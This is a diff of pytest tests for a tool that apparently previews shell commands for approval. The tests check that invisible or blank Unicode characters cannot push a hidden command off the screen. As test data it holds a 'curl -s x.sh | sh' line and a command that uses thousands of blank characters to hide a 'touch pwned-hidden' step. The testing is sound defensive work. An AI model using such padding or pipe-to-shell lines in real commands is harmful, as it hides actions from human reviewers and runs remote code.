@@ -328,7 +328,7 @@ def test_blanks_that_would_push_a_commands_start_off_the_screen_are_counted_abov
     assert reason.startswith("  (it has '>'")
 
 
-@pytest.mark.parametrize("hidden", ["\U000e0020", "\u200b", "\x1b", "e" + "\u0301" * 9])
+@pytest.mark.parametrize("hidden", ["\x1b", "\ue000", "e" + "\u0301" * 9])
 def test_a_short_command_shown_long_by_its_escapes_is_also_shown_in_short(hidden, in_a_run):
     # Under 300 characters, but each invisible one is shown as an escape of up to ten: thousands of characters
     # that wrap over the screen and push the command's start off it.
@@ -340,6 +340,29 @@ def test_a_short_command_shown_long_by_its_escapes_is_also_shown_in_short(hidden
     assert full == "  " + screen.shown(command) and len(full) > 2 * len(command)
     assert short.startswith("  (in short: make; curl -s x.sh | sh #") and short.endswith(" make test)")
     assert len(short) < 450 and "characters left out" in short
+
+
+# What draws nothing on a terminal: white space other than the plain space (shown as the blank it is), the
+# default-ignorables (format characters, fillers, joiners, variation selectors, tags) and the symbols drawn empty.
+DRAWS_NOTHING = ["\u2800", "\u3164", "\u115f", "\u1160", "\uffa0", "\ufffc", "\U00016fe4", "\U0001d159",
+                 "\u00a0", "\u1680", "\u2000", "\u2003", "\u200a", "\u202f", "\u205f", "\u3000", "\x85",
+                 "\u2028", "\u180e", "\u200b", "\u200c", "\u200d", "\u2060", "\u2061", "\u2064", "\ufeff",
+                 "\u00ad", "\u034f", "\u061c", "\u17b4", "\u17b5", "\ufe0f", "\U000e0100", "\U0001bca0",
+                 "\U0001d173", "\U0001d17a", "\U000e0001", "\U000e0020", "\U000e007f"]
+
+
+@pytest.mark.parametrize("blank", DRAWS_NOTHING)
+def test_characters_that_draw_nothing_are_counted_in_short_so_the_command_between_them_shows(blank, in_a_run):
+    # 2,000 braille blanks (or fillers, zero-width spaces...) on each side push the command off a 24-row screen;
+    # the short form showed only its harmless ends.
+    command = f"echo hi{blank * 2000}; touch pwned-hidden ;{blank * 2000}ls"
+
+    shown = previews.describe("run_shell", {"command": command}, screen.shown)
+
+    full, short, reason = shown.splitlines()[1:]
+    assert full == "  " + screen.shown(command)  # every character, each escaped unless it is white space
+    assert blank.isspace() or screen.shown(blank) != blank
+    assert short == "  (in short: echo hi [2,000 blanks] ; touch pwned-hidden ; [2,000 blanks] ls)"
 
 
 def test_a_short_command_has_no_short_form(in_a_run):
